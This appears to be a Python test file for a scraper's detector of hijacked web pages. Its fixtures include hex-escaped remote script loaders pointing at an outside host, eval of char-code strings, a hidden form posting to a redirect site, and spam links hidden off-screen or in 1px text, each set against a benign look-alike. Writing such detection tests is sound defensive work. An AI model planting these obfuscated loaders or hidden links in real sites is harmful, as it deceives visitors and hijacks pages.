"""Hijack evidence from what scripts, forms and invisibly drawn blocks do, with no word of the spam
known: an address spelt in escapes and loaded, code run from char codes, a hidden form posting to
another site, a block drawn off-screen or unreadably small that links a site the page names nowhere
else. Each with the legit shape it must not take for one (pages: fixtures/behaviour-shell.html)."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.conftest import everything, kinds, load

URL = "https://www.xiling.gov.cn/xwzx/2025/1202/3.htm"
OTHER = "https://cdn.qx-tongji.top/c.js"  # a host the page names nowhere else


def page(head: str = "", tail: str = "") -> bytes:
    return load("behaviour-shell.html").replace(b"<!--HEAD-->", head.encode()).replace(b"<!--TAIL-->", tail.encode())


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def clean(head: str = "", tail: str = ""):
    return clean_page(page(head, tail), url=URL)


def test_a_loader_whose_address_only_escapes_spell_is_a_hijack():
    script = (f'<script>var u="{escaped(OTHER)}";(function(){{var s=document.createElement("script");s.src=u;'
              'document.getElementsByTagName("head")[0].appendChild(s);})();</script>')
    a = clean(head=script)
    assert a.hijacked
    assert any(f.kind == "spam_script" and "qx-tongji.top" in f.evidence for f in a.findings), a.findings
    assert "消防安全检查" in a.text


def test_markup_written_from_an_escaped_string_table_is_a_hijack():
    markup = f'<script src="{OTHER}"></script>'
    script = f'<script>var _t=["{escaped(markup)}"];document["{escaped("write")}"](_t[0]);</script>'
    a = clean(head=script)
    assert a.hijacked and "spam_script" in kinds(a), a.findings


def test_escaped_addresses_of_the_site_itself_or_a_plain_counter_are_no_hijack():
    own = (f'<script>var u="{escaped("https://www.xiling.gov.cn/js/stat.js")}";var s=document.createElement("script");'
           's.src=u;document.body.appendChild(s);</script>')
    counter = ('<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");'
               'hm.src="https://hm.baidu.com/hm.js?0123456789abcdef";var s=document.getElementsByTagName("script")[0];'
               's.parentNode.insertBefore(hm,s);})();</script>')
    for script in (own, counter):
        a = clean(head=script)
        assert not a.hijacked, a.findings


def test_code_run_from_char_codes_is_a_hijack():
    codes = ",".join(str(ord(c)) for c in "console.log(1)")
    a = clean(tail=f'<script src="/js/jquery.min.js"></script><script>eval(String.fromCharCode({codes}));</script>')
    assert a.hijacked and "obfuscated_script" in kinds(a), a.findings


def test_char_codes_that_spell_a_tag_delimiter_are_no_hijack():
    a = clean(tail='<script>document.write(String.fromCharCode(60)+"span>今日访问</span>");</script>')
    assert not a.hijacked, a.findings


def test_a_hidden_form_posting_to_another_site_in_a_new_window_is_a_hijack():
    form = ('<div style="display:none"><form action="https://go.pq-redir.top/jump.php?id=7" method="post" '
            'target="_blank"><input type="submit" style="display:none"></form></div>')
    a = clean(tail=form)
    assert a.hijacked
    assert any(f.kind == "hidden_form" and "pq-redir.top" in f.evidence for f in a.findings), a.findings


def test_hidden_forms_of_the_site_or_into_a_frame_of_the_page_are_no_hijack():
    search = ('<div style="display:none" id="msearch"><form action="https://www.xiling.gov.cn/search" method="get">'
              '<input type="text" name="q"><input type="submit" value="搜索"></form></div>')
    transport = ('<iframe name="likes-frame" src="https://widgets.example-likes.com/frame.html" width="1" height="1">'
                 '</iframe><form action="https://widgets.example-likes.com/post" method="post" target="likes-frame" '
                 'style="display:none"><input type="hidden" name="v" value="1"></form>')
    for markup in (search, transport):
        a = clean(tail=markup)
        assert not a.hijacked, a.findings


def test_an_off_screen_heading_with_one_link_to_an_unnamed_site_is_a_hijack():
    block = ('<div style="position:absolute;left:-8000px;top:0"><h2>Best Online Picks Daily Updated</h2>'
             '<p><a href="https://picks-daily.example/ref/8">Open Now</a></p></div>')
    a = clean(tail=block)
    assert a.hijacked and "hidden_links" in kinds(a), a.findings
    assert "Picks" not in everything(a)


def test_an_unreadably_small_footer_line_with_an_off_site_link_is_a_hijack():
    line = ('<div class="copy-y" style="font-size:1px;color:#fff">Trusted Platform Since 2020 '
            '<a href="https://trusted-play.example/">Trusted Play</a></div>')
    a = clean(tail=line)
    assert a.hijacked and "hidden_links" in kinds(a), a.findings
    assert "Trusted Play" not in everything(a)


def test_skip_links_screen_reader_text_widget_credits_and_small_print_are_no_hijack():
    shapes = (
        '<div style="position:absolute;left:-9999px"><a href="#content">跳到正文</a></div>',
        '<span style="position:absolute;left:-10000px">本页内容由溪岭镇应急办提供 <a href="https://www.xiling.gov.cn/">返回首页</a></span>',
        # a widget's hidden credit: the page loads the widget's code from the same site
        '<script src="https://cdn.clockwidget.example/w.js"></script>'
        '<div style="position:absolute;left:-9999px"><a href="https://www.clockwidget.example/">Clock widget</a></div>',
        '<div style="font-size:11px;color:#999">技术支持：<a href="https://www.yunzhan-tech.example/">云展科技</a></div>',
        '<div style="font-size:1px;line-height:1px">&nbsp;</div>',
    )
    for markup in shapes:
        a = clean(tail=markup)
        assert not a.hijacked, (markup, a.findings)
